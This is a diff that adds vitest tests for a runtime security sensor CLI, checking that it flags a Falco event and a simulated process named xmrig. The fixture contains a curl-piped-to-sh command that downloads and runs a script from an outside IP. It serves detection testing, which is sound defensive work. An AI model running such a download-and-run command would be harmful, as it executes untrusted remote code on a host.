@@ -1,0 +1,69 @@
+import { spawn } from 'node:child_process';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { z } from 'zod';
+import { assertBuilt, CLI, runCli } from './support/cli.js';
+import { Processes, renamedBinary } from './support/sensor.js';
+
+// `palisade sensor` as a user runs it: the built CLI, a real process, JSON lines on stdout.
+
+const alertLine = z.object({ schemaVersion: z.literal(1), rule: z.string(), message: z.string(), source: z.literal('runtime'), evidence: z.array(z.unknown()) });
+
+describe('palisade sensor (built CLI)', () => {
+  let dir = '';
+  beforeAll(() => {
+    assertBuilt();
+    dir = mkdtempSync(join(tmpdir(), 'palisade-sensor-cli-'));
+  });
+  afterAll(() => rmSync(dir, { recursive: true, force: true }));
+
+  it('reads Falco JSON output and prints runtime alerts as JSON lines', async () => {
+    const falco = join(dir, 'falco.jsonl');
+    writeFileSync(
+      falco,
+      [
+        JSON.stringify({ time: '2026-11-20T10:00:00Z', hostname: 'node-7', output_fields: { 'evt.type': 'execve', 'proc.name': 'sh', 'proc.pid': 4242, 'proc.cmdline': "sh -c curl -s http://198.51.100.23/x.sh | sh", 'proc.args': "-c 'curl -s http://198.51.100.23/x.sh | sh'", 'container.id': 'host' } }),
+        '{broken',
+      ].join('\n'),
+    );
+    const run = await runCli(['sensor', '--once', '--no-proc', '--falco', falco]);
+    expect(run.code).toBe(0);
+    const alerts = run.stdout.trim().split('\n').map((l) => alertLine.parse(JSON.parse(l)));
+    expect(alerts.map((a) => a.rule)).toEqual(['K8S.NODE_DownloadAndRunCombo']);
+    expect(alerts[0]?.message).toBe("download piped into a shell in host on node-7: sh -c curl -s http://198.51.100.23/x.sh | sh [sh(4242)]");
+    expect(JSON.parse(run.stderr.trim().split('\n').pop() ?? '{}').counters.skipped).toEqual({ 'falco: not JSON': 1 });
+  });
+
+  it('polls /proc and prints an alert for a miner started after it, within a second', async () => {
+    const p = new Processes();
+    const sensor = spawn(process.execPath, [CLI, 'sensor', '--interval', '100ms', '--skip-existing', '--node', 'cli-node'], { stdio: ['ignore', 'pipe', 'pipe'] });
+    let out = '';
+    let err = '';
+    sensor.stdout.on('data', (c: Buffer) => (out += c.toString()));
+    sensor.stderr.on('data', (c: Buffer) => (err += c.toString()));
+    try {
+      for (let i = 0; i < 300 && !err.includes('"sensor":"started"'); i++) await new Promise((r) => setTimeout(r, 50));
+      expect(err).toContain('"sensor":"started"');
+      const started = Date.now();
+      const miner = p.start(renamedBinary(dir, '/usr/bin/sleep', 'xmrig'), ['5']);
+      let seenAt = 0;
+      while (Date.now() - started < 5000) {
+        if (out.includes(`xmrig(${miner.pid})`)) {
+          seenAt = Date.now();
+          break;
+        }
+        await new Promise((r) => setTimeout(r, 20));
+      }
+      expect(seenAt - started).toBeGreaterThan(0);
+      expect(seenAt - started).toBeLessThan(1000);
+      const alert = out.trim().split('\n').map((l) => alertLine.parse(JSON.parse(l))).find((a) => a.message.includes(`xmrig(${miner.pid})`));
+      expect(alert?.rule).toBe('K8S.NODE_CryptoCoinMinerArtifacts');
+    } finally {
+      sensor.kill('SIGTERM');
+      await new Promise((r) => sensor.once('exit', r));
+      await p.cleanup();
+    }
+  }, 40_000);
+});
